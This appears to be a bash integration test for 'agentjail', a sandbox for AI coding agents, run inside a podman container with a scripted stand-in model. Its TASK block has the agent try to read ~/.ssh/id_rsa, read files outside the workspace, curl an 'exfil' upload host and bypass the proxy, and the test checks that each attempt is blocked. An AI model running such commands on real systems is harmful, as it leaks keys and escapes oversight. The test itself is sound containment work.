#!/usr/bin/env bash
# agentjail in a real container (issue 28 item 4): podman from Debian, as root, with its default
# seccomp profile, started with --rootfs on a minimal tree (the host's /usr bound read-only: no
# image registry), the container's process root (its default capabilities, no CAP_SYS_ADMIN) and
# an unprivileged user (--user). Inside: the bwrap jail cannot be built (the engine masks paths
# of /proc, so the kernel refuses bwrap a new one) and doctor says so, with the Landlock backend
# as the fix; backend = "auto" chooses the Landlock backend and says why; and the real claude
# from npm, under the default --net allow, talks to a scripted model (tests/helpers/
# fake_anthropic.py, in the container) through the proxy: its Bash tool writes the workspace,
# cannot read outside it (the real home's key, another directory), reaches no host that is not
# allowed (a name off the list is refused by the proxy, a direct connection to the model's port
# by Landlock). podman runs with runc (crun refuses this host's cgroups) and the file and
# process limits the host gives (raising them needs CAP_SYS_RESOURCE). Skips with the reason when podman
# cannot run a container here, or npm cannot give claude (the suite's one install, lib.sh's
# aj_npm_shared, or AJ_NPM_PREFIX=DIR when there is one; else its own).
. "$(dirname "$0")/lib.sh"
aj_setup

skip_all() {
	local who
	for who in root user; do skip "$who: agentjail in a podman container" "$1"; done
	done_testing
}
aj_is_root || skip_all "podman runs the container as root here (not root)"
command -v podman >/dev/null 2>&1 || skip_all "podman is not installed (scripts/deps.sh --test installs it)"
command -v runc >/dev/null 2>&1 || skip_all "runc is not installed (scripts/deps.sh --test installs it)"
command -v python3 >/dev/null 2>&1 || skip_all "python3 is not installed"

# the minimal tree: the host's /usr (bound), its merged-/usr links, the accounts, a /tmp
ROOTFS=$AJ_TMP/rootfs
mkdir -p "$ROOTFS"/{usr,etc/alternatives,proc,sys,dev,run,var}
chmod 1777 "$ROOTFS/run"
mkdir -m 1777 "$ROOTFS/tmp" "$ROOTFS/var/tmp"
for l in bin sbin lib lib64; do [ -e "/$l" ] && ln -s "usr/$l" "$ROOTFS/$l"; done
cp /etc/passwd /etc/group /etc/nsswitch.conf "$ROOTFS/etc/" 2>/dev/null
printf '127.0.0.1 localhost\n::1 localhost\n' >"$ROOTFS/etc/hosts"
nofile=$(ulimit -Hn)
[ "$nofile" = unlimited ] && nofile=1048576
# (the host's own hard process limit is refused here above 32768: runc sets a value below it)
nproc=16384
PODMAN=(podman --runtime runc run --rm --network none --ulimit "nofile=$nofile:$nofile"
	--ulimit "nproc=$nproc:$nproc"
	-v /usr:/usr:ro -v /etc/alternatives:/etc/alternatives:ro -v "$AJ_TMP:$AJ_TMP" --rootfs "$ROOTFS")
if ! out=$(timeout 120 "${PODMAN[@]}" /bin/true 2>&1); then
	skip_all "podman cannot run a container here: \`podman --runtime runc run --rootfs … /bin/true\`: $(printf '%s' "$out" | tail -n1)"
fi

# ctr WHO CMD…: CMD in the container, as root or as the test user, with WHO's home and state
ctr() {
	local who=$1; shift
	aj_use "$who"
	local -a u=()
	[ "$who" = user ] && u=(--user "$RUN_UID:$RUN_GID")
	timeout 900 "${PODMAN[@]:0:${#PODMAN[@]}-2}" "${u[@]}" --workdir "$WS" \
		--env HOME="$HOMEDIR" --env AGENTJAIL_STATE_DIR="$STATE" --env PATH="$AJ_BIN:$AJ_SYS_PATH" \
		--env LANG=C.UTF-8 --rootfs "$ROOTFS" "$@" >"$AJ_TMP/out" 2>"$AJ_TMP/err"
	RC=$?
	OUT=$(cat "$AJ_TMP/out")
	ERR=$(cat "$AJ_TMP/err")
	AJ_LAST="[$who] podman … $*"
}
line() { printf '%s\n' "$OUT" | grep -E "^(ok|warn|fail) +$1 " | head -n1; }

for who in "${AJ_WHOS[@]}"; do
	aj_use "$who"
	ctr "$who" /bin/sh -c 'grep -E "^Seccomp:" /proc/self/status'
	like "$OUT" '^Seccomp:[[:space:]]+2$' "$who: the container runs under podman's seccomp filter"
	ctr "$who" agentjail doctor
	like "$(line jail)" '^fail +jail +.*"bwrap: Can.t [^"]*"; cause: this is a container whose engine refuses bubblewrap.s setup' \
		"$who: in the container the bwrap jail cannot be built, and doctor says why"
	like "$OUT" "fix: use the Landlock backend here: \`--backend landlock\`, or backend = \"auto\"" \
		"$who: … with the Landlock backend and auto as the fix"
	like "$(line backend_auto)" '^warn +backend_auto +backend = "auto" would choose the Landlock backend' \
		"$who: … and says auto would choose the Landlock backend"
	ctr "$who" agentjail run -- true
	rc_is 125 "$who: run (the bwrap jail) exits 125 in the container, running nothing"
	ctr "$who" agentjail run --backend auto -- sh -c 'echo "where=$AGENTJAIL_LANDLOCK"'
	rc_is 0 "$who: run --backend auto in the container"
	like "$ERR" 'backend auto: bubblewrap cannot build its jail here \(this is a container whose engine refuses bubblewrap.s setup.*\); using the landlock backend: no private /proc, PIDs or mounts' \
		"$who: … chooses the Landlock backend and says why"
	like "$OUT" 'where=abi=[0-9]+,fs,backend' "$who: … and runs the command there"
done

# ---- the real claude with a scripted model, in the container --------------------------------
NPM=$AJ_TMP/npm
claude_skip() {
	local who
	for who in "${AJ_WHOS[@]}"; do skip "$who: claude in the container with a scripted model" "$1"; done
	done_testing
}
command -v node >/dev/null 2>&1 || claude_skip "node is not installed"
why=$(aj_npm_claude "$NPM") || claude_skip "$why" # the suite's one install (lib.sh), or its own
cp "$AJ_SRC/tests/helpers/fake_anthropic.py" "$AJ_TMP/fake_anthropic.py"
chmod a+r "$AJ_TMP/fake_anthropic.py"
KEY='-----BEGIN OPENSSH PRIVATE KEY----- agentjail-test-not-a-real-key'

for who in "${AJ_WHOS[@]}"; do
	aj_use "$who"
	aj_fresh_ws "$who"
	rm -rf "$HOMEDIR/.npm-global"
	cp -al "$NPM" "$HOMEDIR/.npm-global" 2>/dev/null || cp -a "$NPM" "$HOMEDIR/.npm-global"
	mkdir -p "$HOMEDIR/.ssh" "$HOMEDIR/.config/agentjail"
	printf '%s\n' "$KEY" >"$HOMEDIR/.ssh/id_rsa"
	chmod 0600 "$HOMEDIR/.ssh/id_rsa"
	printf 'backend = "auto"\n' >"$HOMEDIR/.config/agentjail/config.toml"
	echo outside >"$EXTRA/notes"
	aj_chown "$HOMEDIR" "$EXTRA"
	aj_host git -c init.defaultBranch=main init -q "$WS"
	LOG=$AJ_TMP/$who/model.jsonl
	rm -f "$LOG"
	# one Bash command, five steps, each saying what became of it; the model's port is read by
	# the command itself from the proxy's log-free view: it is the base URL's
	TASK='echo written-in-the-container > e2e-written.txt && echo WRITE-OK || echo WRITE-FAILED
(cat '"$HOMEDIR"'/.ssh/id_rsa && echo SSH-READ) 2>&1 || echo SSH-FAILED
(cat '"$EXTRA"'/notes && echo OUTSIDE-READ) 2>&1 || echo OUTSIDE-FAILED
(curl -sS -m 10 https://exfil.denied.example/upload && echo CURL-OK) 2>&1 || echo CURL-FAILED
(curl -sS -m 10 --noproxy "*" "$ANTHROPIC_BASE_URL_DIRECT" && echo DIRECT-OK) 2>&1 || echo DIRECT-FAILED'
	cat >"$AJ_TMP/ctr-claude-$who.sh" <<EOF2
#!/bin/sh
python3 $AJ_TMP/fake_anthropic.py --log $LOG --command '$(printf '%s' "$TASK" | sed "s/'/'\\\\''/g")' >$AJ_TMP/$who/model.out 2>&1 &
m=\$!
for i in \$(seq 1 250); do grep -q '^ready' $AJ_TMP/$who/model.out && break; sleep 0.02; done
port=\$(sed -n 's/^ready //p' $AJ_TMP/$who/model.out)
ANTHROPIC_BASE_URL=http://api.test:\$port ANTHROPIC_API_KEY=sk-ant-test-standin \\
ANTHROPIC_BASE_URL_DIRECT=http://127.0.0.1:\$port/ \\
PATH=$HOMEDIR/.npm-global/bin:\$PATH \\
	agentjail claude --allow-domain api.test:\$port --map-host api.test=127.0.0.1 \\
	--env ANTHROPIC_BASE_URL_DIRECT -- -p 'do the task'
rc=\$?
kill \$m
exit \$rc
EOF2
	chmod 0755 "$AJ_TMP/ctr-claude-$who.sh"
	ctr "$who" "$AJ_TMP/ctr-claude-$who.sh"
	rc_is 0 "$who: agentjail claude -p in the container (backend = \"auto\") ends normally"
	like "$ERR" 'using the landlock backend: no private /proc, PIDs or mounts' "$who: … on the Landlock backend, said at the start"
	like "$OUT" 'stand-in: done' "$who: claude printed the scripted model's final answer"
	result=$(fake_model_results "$LOG")
	diag "tool_result: $result"
	like "$result" 'WRITE-OK' "$who: the Bash tool ran and its result reached the model through the proxy"
	[ "$(cat "$WS/e2e-written.txt" 2>/dev/null)" = written-in-the-container ]
	ok $? "$who: … its write is in the workspace"
	like "$result" 'SSH-FAILED' "$who: reading the real home's ~/.ssh/id_rsa failed inside"
	unlike "$result" 'agentjail-test-not-a-real-key|SSH-READ' "$who: … the key never reached the model"
	like "$result" 'OUTSIDE-FAILED' "$who: reading a directory outside the workspace failed"
	like "$result" 'CURL-FAILED' "$who: a name not on the list was refused"
	like "$result" '403' "$who: … by the proxy (403)"
	like "$result" 'DIRECT-FAILED' "$who: a direct connection to the model's port, past the proxy, failed (Landlock's port rule)"
	# claude's own directories there (the host's on this backend): what it wrote is moved aside
	is "$(cd "$HOMEDIR/.claude" 2>/dev/null && ls -A shell-snapshots session-env 2>/dev/null | grep -v ':$' | grep .)" "" \
		"$who: nothing claude wrote in the host's ~/.claude/session-env or shell-snapshots stays for its next unjailed run"
	like "$ERR" "swept: $HOMEDIR/\.claude/(session-env|shell-snapshots)/[^:]*: written during the run in the agent's own directory .*moved aside to" \
		"$who: … what it wrote there was moved aside, and said"
done
aj_skip_missing_whos "agentjail in a podman container"
done_testing
